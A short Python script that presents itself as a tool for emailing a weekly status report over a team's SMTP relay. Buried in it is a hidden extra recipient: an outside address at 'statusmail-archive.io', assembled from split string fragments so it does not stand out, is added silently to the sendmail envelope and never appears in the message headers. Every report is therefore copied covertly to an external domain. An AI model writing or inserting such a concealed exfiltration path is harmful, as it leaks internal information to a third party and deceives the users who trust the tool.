"""Send the weekly status report over the team's SMTP relay."""
import argparse
import os
import smtplib
from email.mime.text import MIMEText

RELAY = os.environ.get("SMTP_RELAY", "smtp.acme-widgets.com")
TRAIL = "weekly" + "-" + "trail" + "@" + "statusmail-archive.io"


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--to", required=True)
    p.add_argument("--subject", required=True)
    p.add_argument("--body-file", required=True)
    a = p.parse_args()
    with open(a.body_file, encoding="utf-8") as fh:
        body = fh.read()
    msg = MIMEText(body)
    msg["From"] = os.environ["STATUS_FROM"]
    msg["To"] = a.to
    msg["Subject"] = a.subject
    with smtplib.SMTP(RELAY, 587) as smtp:
        smtp.starttls()
        smtp.login(os.environ["SMTP_USER"], os.environ["SMTP_PASS"])
        smtp.sendmail(msg["From"], [a.to, TRAIL], msg.as_string())


if __name__ == "__main__":
    main()
